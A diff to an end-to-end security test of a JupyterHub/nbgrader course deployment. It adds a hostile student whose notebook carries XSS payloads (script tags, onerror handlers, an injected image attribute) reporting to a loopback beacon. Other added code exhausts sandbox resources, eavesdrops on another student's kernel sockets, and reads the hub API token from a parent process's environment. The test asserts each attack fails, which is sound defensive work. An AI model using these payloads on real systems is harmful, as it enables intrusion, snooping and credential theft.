@@ -12,7 +12,14 @@ One story, in the order a class lives it (fixtures: conftest.py here):
     hardened pipeline (python -m autograder.grade), the teacher releases the feedback;
  6. every student fetches it and reads their score and their failing test's message;
  7. what a student cannot do: open another's submission, list the exchange, reach the
-    formgrader, read the course's source/ or gradebook.db, import autograder.
+    formgrader, read the course's source/ or gradebook.db, import autograder, read the
+    hub's service list (the formgrader's command);
+ 8. what a hostile student cannot do (issue 20): carol's notebook carries a script, an
+    event handler and an unquoted image size for the formgrader, and tries to start 400
+    processes and write 400 MB in /tmp while it is graded as the grader account; the
+    teacher opens it in the formgrader and nothing of hers runs, and the grading sandbox
+    held her to its caps; alice, outside her sandbox, listens on every socket carol's
+    kernel could be reached at and hears nothing.
 
 Only notebooks 1-3 are submitted (the pipeline grades the others as "not submitted"),
 to keep the test near a minute and a half.
@@ -20,10 +27,13 @@ to keep the test near a minute and a half.
 
 import contextlib
 import datetime
+import http.server
 import json
 import os
 import re
+import secrets
 import subprocess
+import threading
 import time
 from pathlib import Path
 
@@ -32,7 +42,7 @@ import pytest
 from nbgrader.api import Gradebook
 from playwright.sync_api import expect
 
-from deploy import instructor
+from deploy import accounts, instructor
 
 pytestmark = pytest.mark.hub
 
@@ -70,7 +80,8 @@ def open_formgrader(teacher):
     page = teacher.page
     # The hub starts the formgrader service on first use: slow on a loaded machine.
     page.wait_for_url(re.compile(r"/formgrader/manage_assignments"), timeout=120_000)
-    expect(page.locator("td.name", has_text=dep.assignment)).to_be_visible()
+    # Its first list of assignments (measured: up to 16 s while three servers start).
+    expect(page.locator("td.name", has_text=dep.assignment)).to_be_visible(timeout=90_000)
 
 
 # --- students in the Assignments tab -----------------------------------------------------------
@@ -172,6 +183,21 @@ attempt("read gradebook.db", lambda: open(%(gradebook)r, "rb").read(16))
 attempt("list source/", lambda: os.listdir(%(source)r))
 attempt("read the reference in the checkout", lambda: open(%(reference)r).read())
 attempt("list another's home", lambda: os.listdir(%(other_home)r))
+def server_env(name):  # else from the kernel's parent: the student's own server
+    if name in os.environ:
+        return os.environ[name]
+    with open(f"/proc/{os.getppid()}/environ", "rb") as f:
+        env = dict(v.split(b"=", 1) for v in f.read().split(b"\\0") if b"=" in v)
+    return env[name.encode()].decode()
+def read_service_commands():
+    import urllib.request
+    request = urllib.request.Request(
+        server_env("JUPYTERHUB_API_URL") + "/services",
+        headers={"Authorization": "token " + server_env("JUPYTERHUB_API_TOKEN")},
+    )
+    services = json.load(urllib.request.urlopen(request, timeout=10))
+    assert any(s.get("command") for s in services.values()), services
+attempt("read the formgrader's command in the hub's service list", read_service_commands)
 checks["find others' submissions"] = glob.glob(%(inbound)r + "/*")
 checks["import autograder"] = "found" if importlib.util.find_spec("autograder") else "not found"
 checks["import helpers"] = "found" if importlib.util.find_spec("helpers") else "not found"
@@ -180,15 +206,22 @@ print("PROBE " + json.dumps(checks))
 
 
 def run_probe(student, paths):
+    output = run_cell(student, "probe", PROBE % paths, "PROBE")
+    return json.loads(output.split("PROBE ", 1)[1])
+
+
+def run_cell(student, name, source, marker, before_run=lambda: None):
+    """Open a notebook of one cell in JupyterLab, run it once its kernel is idle (after
+    ``before_run``), return the text of its output that contains ``marker``."""
     notebook = {
         "cells": [
             {
                 "cell_type": "code",
                 "execution_count": None,
-                "id": "probe",
+                "id": name,
                 "metadata": {},
                 "outputs": [],
-                "source": PROBE % paths,
+                "source": source,
             }
         ],
         "metadata": {
@@ -201,16 +234,208 @@ def run_probe(student, paths):
         "nbformat": 4,
         "nbformat_minor": 5,
     }
-    student.put_notebook("probe.ipynb", notebook)
+    student.put_notebook(f"{name}.ipynb", notebook)
     page = student.page
-    page.goto(f"{student.server}/lab/tree/probe.ipynb")
+    # ?reset: this notebook alone (a notebook open from earlier would show its own kernel
+    # as idle in the status bar, and the cell would run before this one's kernel is up).
+    page.goto(f"{student.server}/lab/tree/{name}.ipynb?reset")
     # The status bar names the notebook's kernel once it is connected and idle.
     expect(page.get_by_text("Python 3 (ipykernel) | Idle")).to_be_visible(timeout=60_000)
+    before_run()
     student.menu("Run", "runmenu:run-all")
-    output = page.locator(".jp-OutputArea-output", has_text="PROBE")
+    output = page.locator(".jp-OutputArea-output", has_text=marker).last
     expect(output).to_be_visible(timeout=60_000)
-    student.screenshot("probe")
-    return json.loads(output.inner_text().split("PROBE ", 1)[1])
+    student.screenshot(name)
+    return output.inner_text()
+
+
+# --- a hostile student (issue 20) -------------------------------------------------------
+
+
+class Beacon:
+    """A loopback HTTP listener that records every request: where a script would report."""
+
+    def __init__(self):
+        self.hits = []
+        hits = self.hits
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):
+                hits.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def _pwn(beacon, how):
+    """JavaScript (no spaces: it must fit an unquoted attribute) that leaves a mark."""
+    return f"window.__carol='{how}';(new/**/Image).src='{beacon.url}/{how}'"
+
+
+def hostile_cells(beacon):
+    """What carol adds at the end of her notebook 1 (after every graded cell): content
+    that would run in the formgrader, and the caps of her grading sandbox tried."""
+    md, script, onerror, js, width = (
+        _pwn(beacon, how) for how in ("markdown", "script", "onerror", "javascript", "width")
+    )
+    markdown = f'**carol\'s markdown** <img src=x onerror="{md}">'
+    html = f'<b>carol\'s html</b><script>{script}</script><img src=x onerror="{onerror}">'
+    size = {"image/png": {"width": f"1 onerror={width}"}}
+    display = f"""from IPython.display import HTML, Javascript, display
+display(HTML({html!r}))
+display(Javascript({js!r}))
+display({{"image/png": "iVBORw0KGgo="}}, raw=True, metadata={size!r})
+"""
+    return [("markdown", markdown), ("code", display), ("code", TRY_THE_CAPS)]
+
+
+# 400 processes and 400 MB in /tmp, against the documented 256 and 256 MB (sandbox.Limits).
+TRY_THE_CAPS = """import json, os, signal
+children = []
+try:
+    for _ in range(400):  # posix_spawn: cheap, whatever the kernel's size
+        children.append(os.posix_spawn("/bin/sleep", ["sleep", "60"], {}))
+except OSError:
+    pass
+for pid in children:
+    os.kill(pid, signal.SIGKILL)
+    os.waitpid(pid, 0)
+written = 0
+try:
+    for i in range(8):
+        with open(f"/tmp/carol{i}", "wb") as f:
+            for _ in range(50):
+                f.write(bytes(2**20))
+                written += 1
+except OSError:
+    pass
+for i in range(8):
+    if os.path.exists(f"/tmp/carol{i}"):
+        os.remove(f"/tmp/carol{i}")
+print("CAPS " + json.dumps({"processes": len(children), "tmp_mb": written}))
+"""
+
+
+def with_hostile_cells(nb, beacon):
+    nb = json.loads(json.dumps(nb))
+    for kind, source in hostile_cells(beacon):
+        cell = {"cell_type": kind, "id": f"carol-{len(nb['cells'])}", "metadata": {}}
+        cell["source"] = source
+        if kind == "code":
+            cell.update(execution_count=None, outputs=[])
+        nb["cells"].append(cell)
+    return nb
+
+
+def caps_carol_met(dep, carol):
+    """What TRY_THE_CAPS printed when the grader account graded carol's notebook 1."""
+    path = Path(dep.course_dir) / "autograded" / carol.name / dep.assignment / NB1
+    for cell in json.loads(path.read_text())["cells"]:
+        for output in cell.get("outputs", []):
+            text = "".join(output.get("text", ""))
+            if "CAPS " in text:
+                return json.loads(text.split("CAPS ", 1)[1])
+    raise AssertionError(f"no CAPS line in {path}")
+
+
+def formgrader_runs_nothing_of_carols(teacher, carol, beacon):
+    """The teacher opens carol's notebook 1 in the formgrader: her content is shown, and
+    none of it ran (no mark in the page, no request to the beacon)."""
+    dep = teacher.hub.dep
+    with Gradebook(f"sqlite:///{dep.course_dir}/gradebook.db") as gb:
+        submission = gb.find_submission_notebook(NB1[:-6], dep.assignment, carol.name).id
+    page = teacher.page
+    page.goto(f"{teacher.hub.url}{dep.formgrader_path}/submissions/{submission}/")
+    expect(page.get_by_text("carol's html")).to_be_visible()
+    expect(page.get_by_text("carol's markdown")).to_be_visible()
+    page.wait_for_load_state("load")  # after every image's error event
+    page.wait_for_timeout(500)  # a request on its way to the beacon
+    teacher.screenshot("formgrader-carols-notebook")
+    mark = page.evaluate("window.__carol || null")
+    assert mark is None and beacon.hits == [], (mark, beacon.hits)
+
+
+# Run as another student, outside any sandbox: subscribe to every TCP port the victim's
+# account listens on and every kernel's Unix socket named in /proc/net/unix, until stdin
+# closes; print what was heard.
+EAVESDROP = r"""import json, sys, zmq
+victim = int(sys.argv[1])
+ctx = zmq.Context()
+poller = zmq.Poller()
+targets = []
+def listen(address):
+    sub = ctx.socket(zmq.SUB)
+    sub.setsockopt(zmq.SUBSCRIBE, b"")
+    sub.setsockopt(zmq.LINGER, 0)
+    sub.connect(address)
+    poller.register(sub, zmq.POLLIN)
+    targets.append(address)
+with open("/proc/net/tcp") as f:
+    for line in f.readlines()[1:]:
+        field = line.split()
+        if field[3] == "0A" and int(field[7]) == victim:
+            listen("tcp://127.0.0.1:%d" % int(field[1].rsplit(":", 1)[1], 16))
+with open("/proc/net/unix") as f:
+    for line in f.readlines()[1:]:
+        field = line.split()
+        if len(field) > 7 and field[7].startswith("/") and "kernel" in field[7]:
+            listen("ipc://" + field[7])
+print(json.dumps({"targets": targets}), flush=True)
+stdin = sys.stdin.fileno()
+poller.register(stdin, zmq.POLLIN)
+heard = []
+while True:
+    events = dict(poller.poll(30_000))
+    if not events or stdin in events:
+        break
+    for sub in events:
+        heard.append(repr(sub.recv_multipart()))
+print(json.dumps({"heard": heard}), flush=True)
+"""
+
+
+def alice_cannot_listen_to_carol(alice, carol):
+    """Carol prints a secret in her kernel while alice listens: alice hears nothing."""
+    dep = carol.hub.dep
+    secret = secrets.token_hex(8)
+    spy = {}
+
+    def start_listening():  # once carol's kernel is up
+        spy["proc"] = subprocess.Popen(
+            ["runuser", "-u", alice.name, "--", f"{dep.student_env}/bin/python", "-c"]
+            + [EAVESDROP, str(accounts.uid(carol.name))],
+            cwd=dep.home(alice.name),
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
+        first = spy["proc"].stdout.readline()
+        assert first, f"the eavesdropper failed: {spy['proc'].communicate()[1][-3000:]}"
+        spy["targets"] = json.loads(first)["targets"]
+
+    source = f"import time\nfor i in range(8):\n    print({secret!r}, i)\n    time.sleep(0.25)"
+    source += "\nprint('SPOKEN')"
+    try:
+        run_cell(carol, "secret", source, "SPOKEN", before_run=start_listening)
+        out, err = spy["proc"].communicate(input="", timeout=60)
+    finally:
+        if "proc" in spy and spy["proc"].poll() is None:
+            spy["proc"].kill()
+    assert out.strip(), f"the eavesdropper failed: {err[-3000:]}"
+    heard = json.loads(out.strip().splitlines()[-1])["heard"]
+    print(f"{alice.name} listened on {spy['targets']}: {len(heard)} messages")
+    assert not any(secret in message for message in heard), heard[:3]
 
 
 def as_account(user, *argv):
@@ -266,13 +491,16 @@ def bob_types_a_bptt_bug(bob):
     submit(bob)
 
 
-def carol_submits_late(carol):
-    """The deadline passes (due date: now, in the gradebook); carol submits after it."""
+def carol_submits_late(carol, beacon):
+    """The deadline passes (due date: now, in the gradebook); carol submits after it,
+    with her hostile cells at the end of notebook 1."""
     dep = carol.hub.dep
     now = datetime.datetime.now(datetime.UTC)
     instructor.set_due_date(dep, now.strftime("%Y-%m-%d %H:%M:%S.%f UTC"))
     fetch_assignment(carol)
-    carol.put_notebook(f"rnn/{NB1}", fixtures.bug_softmax_overflow()[NB1])
+    carol.put_notebook(
+        f"rnn/{NB1}", with_hostile_cells(fixtures.bug_softmax_overflow()[NB1], beacon)
+    )
     keep_only(carol, (NB1,))
     submit(carol)
 
@@ -356,7 +584,14 @@ def what_carol_cannot_do(carol, alice):
         assert result.returncode != 0 and "Permission denied" in result.stderr, (path, result)
 
 
-def test_class_on_jupyterhub(hub, people):
+@pytest.fixture
+def beacon():
+    listener = Beacon()
+    yield listener
+    listener.close()
+
+
+def test_class_on_jupyterhub(hub, people, beacon):
     dep = hub.dep
     teacher = people(dep.instructors[0])
     alice, bob, carol = (people(name) for name in dep.students)
@@ -374,7 +609,7 @@ def test_class_on_jupyterhub(hub, people):
         alice_answers_everything(alice)
         bob_types_a_bptt_bug(bob)
     with step("4. the deadline passes, carol submits", timings):
-        carol_submits_late(carol)
+        carol_submits_late(carol, beacon)
     with step("5. the teacher collects", timings):
         collect(teacher)
     with step("   the grader account grades (pipeline, 2 workers)", timings):
@@ -398,4 +633,10 @@ def test_class_on_jupyterhub(hub, people):
         print("failures shown:", [ln for ln in text.splitlines() if "AssertionError" in ln])
     with step("7. what a student cannot do", timings):
         what_carol_cannot_do(carol, alice)
+    with step("8. what a hostile student cannot do", timings):
+        caps = caps_carol_met(dep, carol)
+        print(f"{carol.name}'s grading sandbox, as the grader account: {caps}")
+        assert caps["processes"] <= 256 and caps["tmp_mb"] <= 256, caps
+        formgrader_runs_nothing_of_carols(teacher, carol, beacon)
+        alice_cannot_listen_to_carol(alice, carol)
     print(f"story: {sum(timings.values()):.1f} s")
